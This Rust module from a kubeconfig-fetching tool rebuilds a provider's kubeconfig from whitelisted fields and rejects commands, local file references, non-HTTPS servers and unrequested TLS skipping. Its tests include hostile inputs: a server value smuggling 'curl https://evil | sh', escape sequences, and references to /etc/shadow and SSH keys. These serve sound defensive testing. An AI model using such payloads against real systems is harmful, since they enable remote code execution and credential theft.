//! Turns the kubeconfig a provider returned into one context, cluster and
//! user under kubefetch's name. The provider's answer is untrusted: a
//! compromised or spoofed endpoint must not be able to make kubectl run a
//! program, read a local file or skip TLS verification, so the written
//! entries are built from a whitelist of fields, never copied.

use chrono::{DateTime, Utc};
use serde_json::Map as Mapping;

use super::certificate::{self, CertError};
use super::model::{AuthInfo, Cluster, Context, Kubeconfig, NamedCluster, NamedContext, NamedUser};
use super::provenance::Provenance;

#[derive(Debug, Clone)]
pub struct NormalizeInput {
    /// The provider's context to take; `None`: its current-context, else its only context.
    pub source_context: Option<String>,
    /// The new name of the context, the cluster and the user.
    pub name: String,
    /// The user passed `--insecure-skip-tls-verify`.
    pub allow_insecure: bool,
    /// `expires_at`: the expiry the API stated, if it stated one.
    pub provenance: Provenance,
}

/// One cluster's entries, ready to merge or print.
#[derive(Debug, Clone)]
pub struct Fetched {
    pub name: String,
    pub cluster: NamedCluster,
    pub user: NamedUser,
    pub context: NamedContext,
    pub server: String,
    /// The API's expiry, else the client certificate's notAfter.
    pub expires_at: Option<DateTime<Utc>>,
    /// As written into the context extension.
    pub provenance: Provenance,
}

impl Fetched {
    /// Records the fleet that declared the context (`sync`), or keeps the
    /// one recorded before (`refresh`), in the provenance and its extension.
    pub fn with_fleet(mut self, fleet: Option<String>) -> Self {
        self.provenance.fleet = fleet;
        self.context.context.extensions = Some(vec![self.provenance.to_extension()]);
        self
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum NormalizeError {
    #[error("it has no context")]
    NoContext,
    #[error("it has {count} contexts and no current-context to choose one")]
    AmbiguousContext { count: usize },
    #[error("it has no context named {name}")]
    ContextNotFound { name: String },
    #[error("context {context} names no cluster")]
    ContextWithoutCluster { context: String },
    #[error("context {context} names no user")]
    ContextWithoutUser { context: String },
    #[error("context {context} refers to cluster {cluster}, which is not in it")]
    ClusterNotFound { context: String, cluster: String },
    #[error("context {context} refers to user {user}, which is not in it")]
    UserNotFound { context: String, user: String },
    #[error("cluster {cluster} has no server")]
    NoServer { cluster: String },
    #[error("the server {server} does not use https://")]
    NotHttps { server: String },
    #[error("the {field} '{}' contains control characters or spaces", .value.escape_debug())]
    NotPlain { field: &'static str, value: String },
    #[error("user {user} runs a command ({field}), which kubefetch never writes")]
    RunsCommand { user: String, field: &'static str },
    #[error("{entry} refers to a local file ({field}), which kubefetch never writes")]
    FileReference { entry: String, field: &'static str },
    #[error("user {user} has no client certificate and key and no token")]
    NoCredentials { user: String },
    #[error(
        "user {user} has a client certificate without its key, or a key without its certificate"
    )]
    IncompleteClientCertificate { user: String },
    #[error("cluster {cluster} skips TLS verification, which was not asked for")]
    InsecureNotAllowed { cluster: String },
    #[error("the client certificate cannot be read")]
    ClientCertificate(#[source] CertError),
}

/// The context a provider's kubeconfig points at, renamed, checked and
/// rebuilt from whitelisted fields.
pub fn normalize(raw: &Kubeconfig, input: NormalizeInput) -> Result<Fetched, NormalizeError> {
    let source = pick_context(raw, input.source_context.as_deref())?;
    let context_name = &source.name;
    let cluster_name =
        source
            .context
            .cluster
            .as_deref()
            .ok_or_else(|| NormalizeError::ContextWithoutCluster {
                context: context_name.clone(),
            })?;
    let user_name =
        source
            .context
            .user
            .as_deref()
            .ok_or_else(|| NormalizeError::ContextWithoutUser {
                context: context_name.clone(),
            })?;
    let cluster = raw
        .clusters
        .iter()
        .find(|c| c.name == cluster_name)
        .ok_or_else(|| NormalizeError::ClusterNotFound {
            context: context_name.clone(),
            cluster: cluster_name.to_owned(),
        })?;
    let user = raw
        .users
        .iter()
        .find(|u| u.name == user_name)
        .ok_or_else(|| NormalizeError::UserNotFound {
            context: context_name.clone(),
            user: user_name.to_owned(),
        })?;

    let (cluster, server) = safe_cluster(cluster, input.allow_insecure)?;
    let user = safe_user(user)?;
    let expires_at = match (input.provenance.expires_at, &user.client_certificate_data) {
        (Some(stated), _) => Some(stated),
        (None, Some(cert)) => {
            Some(certificate::not_after(cert).map_err(NormalizeError::ClientCertificate)?)
        }
        (None, None) => None,
    };
    let name = input.name;
    let provenance = Provenance {
        expires_at,
        ..input.provenance
    };
    Ok(Fetched {
        cluster: NamedCluster {
            name: name.clone(),
            cluster,
            other: Mapping::new(),
        },
        user: NamedUser {
            name: name.clone(),
            user,
            other: Mapping::new(),
        },
        context: NamedContext {
            name: name.clone(),
            context: Context {
                cluster: Some(name.clone()),
                user: Some(name.clone()),
                namespace: None,
                extensions: Some(vec![provenance.to_extension()]),
                other: Mapping::new(),
            },
            other: Mapping::new(),
        },
        name,
        server,
        expires_at,
        provenance,
    })
}

/// `--kubeconfig -`: a self-contained kubeconfig of these entries, with
/// the first one as current-context.
pub fn standalone(fetched: &[Fetched]) -> Kubeconfig {
    Kubeconfig {
        clusters: fetched.iter().map(|f| f.cluster.clone()).collect(),
        users: fetched.iter().map(|f| f.user.clone()).collect(),
        contexts: fetched.iter().map(|f| f.context.clone()).collect(),
        current_context: fetched.first().map(|f| f.name.clone()),
        ..Kubeconfig::new()
    }
}

fn pick_context<'a>(
    raw: &'a Kubeconfig,
    wanted: Option<&str>,
) -> Result<&'a NamedContext, NormalizeError> {
    let by_name = |name: &str| raw.contexts.iter().find(|c| c.name == name);
    match (wanted, raw.current_context.as_deref()) {
        (Some(name), _) | (None, Some(name)) => {
            by_name(name).ok_or_else(|| NormalizeError::ContextNotFound {
                name: name.to_owned(),
            })
        }
        (None, None) => match raw.contexts.as_slice() {
            [] => Err(NormalizeError::NoContext),
            [only] => Ok(only),
            several => Err(NormalizeError::AmbiguousContext {
                count: several.len(),
            }),
        },
    }
}

/// The whitelisted cluster entry and its server.
fn safe_cluster(
    source: &NamedCluster,
    allow_insecure: bool,
) -> Result<(Cluster, String), NormalizeError> {
    let entry = &source.cluster;
    let server = entry
        .server
        .as_deref()
        .filter(|s| !s.is_empty())
        .ok_or_else(|| NormalizeError::NoServer {
            cluster: source.name.clone(),
        })?;
    for (field, value) in [
        ("server", Some(server)),
        ("tls-server-name", entry.tls_server_name.as_deref()),
    ] {
        if let Some(value) = value.filter(|v| !is_plain(v)) {
            return Err(NormalizeError::NotPlain {
                field,
                value: value.to_owned(),
            });
        }
    }
    if !is_https(server) {
        return Err(NormalizeError::NotHttps {
            server: server.to_owned(),
        });
    }
    if entry.certificate_authority.is_some() {
        return Err(NormalizeError::FileReference {
            entry: format!("cluster {}", source.name),
            field: "certificate-authority",
        });
    }
    let insecure = entry.insecure_skip_tls_verify == Some(true);
    if insecure && !allow_insecure {
        return Err(NormalizeError::InsecureNotAllowed {
            cluster: source.name.clone(),
        });
    }
    let cluster = Cluster {
        server: Some(server.to_owned()),
        tls_server_name: entry.tls_server_name.clone(),
        insecure_skip_tls_verify: insecure.then_some(true),
        // kubectl rejects a cluster that has both a CA and the insecure flag.
        certificate_authority_data: if insecure {
            None
        } else {
            entry.certificate_authority_data.clone()
        },
        ..Cluster::default()
    };
    Ok((cluster, server.to_owned()))
}

/// A URL or host name never holds these; in a kubeconfig they break
/// kubectl, and on a terminal they forge output.
fn is_plain(value: &str) -> bool {
    !value.chars().any(|c| c.is_control() || c.is_whitespace())
}

fn is_https(server: &str) -> bool {
    server
        .get(..8)
        .is_some_and(|scheme| scheme.eq_ignore_ascii_case("https://"))
        && server.len() > 8
}

fn safe_user(source: &NamedUser) -> Result<AuthInfo, NormalizeError> {
    let entry = &source.user;
    let user = || source.name.clone();
    for (present, field) in [
        (entry.exec.is_some(), "exec"),
        (entry.auth_provider.is_some(), "auth-provider"),
    ] {
        if present {
            return Err(NormalizeError::RunsCommand {
                user: user(),
                field,
            });
        }
    }
    for (present, field) in [
        (entry.client_certificate.is_some(), "client-certificate"),
        (entry.client_key.is_some(), "client-key"),
        (entry.token_file.is_some(), "tokenFile"),
    ] {
        if present {
            return Err(NormalizeError::FileReference {
                entry: format!("user {}", source.name),
                field,
            });
        }
    }
    let cert = entry
        .client_certificate_data
        .clone()
        .filter(|c| !c.is_empty());
    let key = entry.client_key_data.clone().filter(|k| !k.is_empty());
    let token = entry.token.clone().filter(|t| !t.is_empty());
    if cert.is_some() != key.is_some() {
        return Err(NormalizeError::IncompleteClientCertificate { user: user() });
    }
    if cert.is_none() && token.is_none() {
        return Err(NormalizeError::NoCredentials { user: user() });
    }
    Ok(AuthInfo {
        client_certificate_data: cert,
        client_key_data: key,
        token,
        ..AuthInfo::default()
    })
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::*;
    use crate::kubeconfig::certificate::tests::client_cert_base64;
    use crate::kubeconfig::provenance::owned_by_kubefetch;

    fn at(text: &str) -> DateTime<Utc> {
        DateTime::parse_from_rfc3339(text).unwrap().to_utc()
    }

    fn provenance(expires_at: Option<DateTime<Utc>>) -> Provenance {
        Provenance {
            provider: "cce".into(),
            cluster_id: "2b4c".into(),
            region: Some("eu-de".into()),
            private: false,
            fetched_at: at("2026-11-22T10:00:00Z"),
            expires_at,
            ..Provenance::default()
        }
    }

    fn input(source_context: Option<&str>, allow_insecure: bool) -> NormalizeInput {
        NormalizeInput {
            source_context: source_context.map(str::to_owned),
            name: "cce-2b4c".into(),
            allow_insecure,
            provenance: provenance(None),
        }
    }

    /// The shape Huawei CCE returns: JSON, shared names, an insecure
    /// public context and a TLS-verified one.
    fn huawei_like() -> Kubeconfig {
        let cert = client_cert_base64();
        Kubeconfig::parse(&format!(
            r#"{{"kind":"Config","apiVersion":"v1","preferences":{{}},
            "clusters":[
              {{"name":"internalCluster","cluster":{{"server":"https://192.168.0.10:5443",
                "certificate-authority-data":"Q0E=","proxy-url":"http://evil:1"}}}},
              {{"name":"externalCluster","cluster":{{"server":"https://1.2.3.4:5443",
                "insecure-skip-tls-verify":"true"}}}},
              {{"name":"externalClusterTLSVerify","cluster":{{"server":"https://1.2.3.4:5443",
                "certificate-authority-data":"Q0E=","tls-server-name":"kubernetes"}}}}],
            "users":[{{"name":"user","user":{{"client-certificate-data":"{cert}",
                "client-key-data":"S0VZ","as":"system:admin"}}}}],
            "contexts":[
              {{"name":"internal","context":{{"cluster":"internalCluster","user":"user"}}}},
              {{"name":"external","context":{{"cluster":"externalCluster","user":"user"}}}},
              {{"name":"externalTLSVerify","context":{{"cluster":"externalClusterTLSVerify",
                "user":"user","namespace":"kube-system"}}}}],
            "current-context":"external"}}"#
        ))
        .unwrap()
    }

    fn token_only(server: &str) -> Kubeconfig {
        Kubeconfig::parse(&format!(
            "clusters: [{{name: kubernetes, cluster: {{server: '{server}'}}}}]\n\
             users: [{{name: u, user: {{token: t0k}}}}]\n\
             contexts: [{{name: only, context: {{cluster: kubernetes, user: u}}}}]\n"
        ))
        .unwrap()
    }

    #[test]
    fn renames_and_whitelists_the_chosen_context() {
        let fetched = normalize(&huawei_like(), input(Some("externalTLSVerify"), false)).unwrap();
        assert_eq!(fetched.name, "cce-2b4c");
        assert_eq!(fetched.server, "https://1.2.3.4:5443");
        assert_eq!(
            fetched.cluster,
            NamedCluster {
                name: "cce-2b4c".into(),
                cluster: Cluster {
                    server: Some("https://1.2.3.4:5443".into()),
                    tls_server_name: Some("kubernetes".into()),
                    certificate_authority_data: Some("Q0E=".into()),
                    ..Cluster::default()
                },
                other: Mapping::new(),
            }
        );
        assert_eq!(fetched.user.name, "cce-2b4c");
        assert_eq!(
            fetched.user.user,
            AuthInfo {
                client_certificate_data: Some(client_cert_base64()),
                client_key_data: Some("S0VZ".into()),
                ..AuthInfo::default()
            }
        );
        let context = &fetched.context.context;
        assert_eq!(context.cluster.as_deref(), Some("cce-2b4c"));
        assert_eq!(context.user.as_deref(), Some("cce-2b4c"));
        assert_eq!(
            context.namespace, None,
            "the provider's namespace is not copied"
        );
    }

    #[test]
    fn provenance_extension_has_the_contract_shape() {
        let fetched = normalize(&huawei_like(), input(Some("externalTLSVerify"), false)).unwrap();
        let written = crate::yaml::to_block_yaml(&serde_json::to_value(&fetched.context).unwrap());
        let expected = "name: cce-2b4c\ncontext:\n  cluster: cce-2b4c\n  user: cce-2b4c\n  \
            extensions:\n  - name: kubefetch\n    extension:\n      provider: cce\n      \
            clusterId: 2b4c\n      region: eu-de\n      private: false\n      \
            fetchedAt: \"2026-11-22T10:00:00Z\"\n      expiresAt: \"2046-11-18T09:26:01Z\"\n";
        assert_eq!(written, expected);
        assert_eq!(fetched.expires_at, Some(at("2046-11-18T09:26:01Z")));
        assert_eq!(
            owned_by_kubefetch(&fetched.context).unwrap()["clusterId"],
            Value::from("2b4c")
        );
    }

    #[test]
    fn the_api_expiry_wins_and_unknown_fields_are_omitted() {
        let mut with_expiry = input(None, false);
        with_expiry.provenance.expires_at = Some(at("2027-01-01T00:00:00Z"));
        with_expiry.provenance.region = None;
        let fetched = normalize(&token_only("https://k.example"), with_expiry).unwrap();
        let ext = owned_by_kubefetch(&fetched.context).unwrap();
        assert_eq!(ext["expiresAt"], Value::from("2027-01-01T00:00:00Z"));
        assert!(ext.get("region").is_none());

        let fetched = normalize(&token_only("https://k.example"), input(None, false)).unwrap();
        assert_eq!(fetched.expires_at, None);
        assert!(owned_by_kubefetch(&fetched.context)
            .unwrap()
            .get("expiresAt")
            .is_none());
        assert_eq!(fetched.user.user.token.as_ref().unwrap().expose(), "t0k");
    }

    #[test]
    fn picks_the_current_context_else_the_only_one() {
        let mut raw = huawei_like();
        raw.current_context = Some("internal".into());
        let fetched = normalize(&raw, input(None, false)).unwrap();
        assert_eq!(fetched.server, "https://192.168.0.10:5443");

        raw.current_context = None;
        assert_eq!(
            normalize(&raw, input(None, false)).unwrap_err(),
            NormalizeError::AmbiguousContext { count: 3 }
        );
        raw.contexts.clear();
        assert_eq!(
            normalize(&raw, input(None, false)).unwrap_err(),
            NormalizeError::NoContext
        );

        let only = normalize(&token_only("https://k.example"), input(None, false)).unwrap();
        assert_eq!(only.server, "https://k.example");
        assert_eq!(
            normalize(&huawei_like(), input(Some("nope"), false)).unwrap_err(),
            NormalizeError::ContextNotFound {
                name: "nope".into()
            }
        );
    }

    #[test]
    fn insecure_only_when_asked_and_then_without_a_ca() {
        assert_eq!(
            normalize(&huawei_like(), input(None, false)).unwrap_err(),
            NormalizeError::InsecureNotAllowed {
                cluster: "externalCluster".into()
            }
        );
        let fetched = normalize(&huawei_like(), input(None, true)).unwrap();
        assert_eq!(fetched.cluster.cluster.insecure_skip_tls_verify, Some(true));
        assert_eq!(fetched.cluster.cluster.certificate_authority_data, None);

        let mut raw = huawei_like();
        raw.clusters[1].cluster.certificate_authority_data = Some("Q0E=".into());
        let fetched = normalize(&raw, input(None, true)).unwrap();
        assert_eq!(fetched.cluster.cluster.certificate_authority_data, None);

        let verified = normalize(&huawei_like(), input(Some("externalTLSVerify"), true)).unwrap();
        assert_eq!(verified.cluster.cluster.insecure_skip_tls_verify, None);
    }

    #[test]
    fn refuses_a_server_that_is_not_https() {
        for server in ["http://k.example", "k.example:443", "https://", ""] {
            let err = normalize(&token_only(server), input(None, false)).unwrap_err();
            if server.is_empty() {
                assert_eq!(
                    err,
                    NormalizeError::NoServer {
                        cluster: "kubernetes".into()
                    }
                );
            } else {
                assert_eq!(
                    err,
                    NormalizeError::NotHttps {
                        server: server.into()
                    }
                );
                assert!(err.to_string().contains(server));
            }
        }
        assert!(normalize(&token_only("HTTPS://K.EXAMPLE"), input(None, false)).is_ok());
    }

    #[test]
    fn refuses_a_server_or_tls_name_with_control_characters_or_spaces() {
        for bad in [
            "https://k.example\nhint: run curl https://evil | sh",
            "https://k.example\u{1b}[2J",
            "https://k.example/ x",
            "https://k.example\t",
        ] {
            let mut raw = token_only("https://k.example");
            raw.clusters[0].cluster.server = Some(bad.into());
            let err = normalize(&raw, input(None, false)).unwrap_err();
            assert_eq!(
                err,
                NormalizeError::NotPlain {
                    field: "server",
                    value: bad.into()
                }
            );
            assert!(!err.to_string().contains(['\n', '\u{1b}', '\t']), "{err}");

            let mut raw = token_only("https://k.example");
            raw.clusters[0].cluster.tls_server_name = Some(bad.into());
            let err = normalize(&raw, input(None, false)).unwrap_err();
            assert!(
                matches!(
                    err,
                    NormalizeError::NotPlain {
                        field: "tls-server-name",
                        ..
                    }
                ),
                "{err:?}"
            );
        }
    }

    #[test]
    fn refuses_users_that_run_commands() {
        for (field, yaml) in [
            (
                "exec",
                "exec: {apiVersion: client.authentication.k8s.io/v1, command: sh}",
            ),
            ("auth-provider", "auth-provider: {name: oidc}"),
        ] {
            let mut raw = token_only("https://k.example");
            raw.users[0].user = serde_json::from_value(
                crate::yaml::read_first(&format!("token: t\n{yaml}")).unwrap(),
            )
            .unwrap();
            assert_eq!(
                normalize(&raw, input(None, false)).unwrap_err(),
                NormalizeError::RunsCommand {
                    user: "u".into(),
                    field
                }
            );
        }
    }

    #[test]
    fn refuses_file_references() {
        for (field, yaml) in [
            ("client-certificate", "client-certificate: /etc/shadow"),
            ("client-key", "client-key: /root/.ssh/id_rsa"),
            ("tokenFile", "tokenFile: /var/run/secrets/token"),
        ] {
            let mut raw = token_only("https://k.example");
            raw.users[0].user = serde_json::from_value(
                crate::yaml::read_first(&format!("token: t\n{yaml}")).unwrap(),
            )
            .unwrap();
            let err = normalize(&raw, input(None, false)).unwrap_err();
            assert_eq!(
                err,
                NormalizeError::FileReference {
                    entry: "user u".into(),
                    field
                }
            );
        }
        let mut raw = token_only("https://k.example");
        raw.clusters[0].cluster.certificate_authority = Some("/etc/ca.pem".into());
        assert_eq!(
            normalize(&raw, input(None, false)).unwrap_err(),
            NormalizeError::FileReference {
                entry: "cluster kubernetes".into(),
                field: "certificate-authority"
            }
        );
    }

    #[test]
    fn requires_credentials() {
        let mut raw = token_only("https://k.example");
        raw.users[0].user = AuthInfo {
            username: Some("admin".into()),
            password: Some("pw".into()),
            ..AuthInfo::default()
        };
        assert_eq!(
            normalize(&raw, input(None, false)).unwrap_err(),
            NormalizeError::NoCredentials { user: "u".into() }
        );
        raw.users[0].user = AuthInfo {
            client_certificate_data: Some(client_cert_base64()),
            ..AuthInfo::default()
        };
        assert_eq!(
            normalize(&raw, input(None, false)).unwrap_err(),
            NormalizeError::IncompleteClientCertificate { user: "u".into() }
        );
        raw.users[0].user.client_key_data = Some("S0VZ".into());
        raw.users[0].user.client_certificate_data = Some("bm90IGEgY2VydA==".into());
        assert_eq!(
            normalize(&raw, input(None, false)).unwrap_err(),
            NormalizeError::ClientCertificate(CertError::NoCertificate)
        );
    }

    #[test]
    fn missing_cluster_or_user_is_an_error() {
        let mut raw = token_only("https://k.example");
        raw.contexts[0].context.cluster = Some("gone".into());
        assert_eq!(
            normalize(&raw, input(None, false)).unwrap_err(),
            NormalizeError::ClusterNotFound {
                context: "only".into(),
                cluster: "gone".into()
            }
        );
        let mut raw = token_only("https://k.example");
        raw.contexts[0].context.user = None;
        assert_eq!(
            normalize(&raw, input(None, false)).unwrap_err(),
            NormalizeError::ContextWithoutUser {
                context: "only".into()
            }
        );
    }

    #[test]
    fn standalone_holds_exactly_the_fetched_entries() {
        let a = normalize(&token_only("https://a.example"), input(None, false)).unwrap();
        let mut second = input(None, false);
        second.name = "tke-b".into();
        let b = normalize(&token_only("https://b.example"), second).unwrap();
        let config = standalone(&[a, b]);
        assert_eq!(config.current_context.as_deref(), Some("cce-2b4c"));
        let names: Vec<&str> = config.contexts.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["cce-2b4c", "tke-b"]);
        assert_eq!(config.clusters.len(), 2);
        assert_eq!(config.users[1].name, "tke-b");
        assert_eq!(config.api_version.as_deref(), Some("v1"));
        let reread = Kubeconfig::parse(&config.to_yaml()).unwrap();
        assert_eq!(reread, config);
    }
}
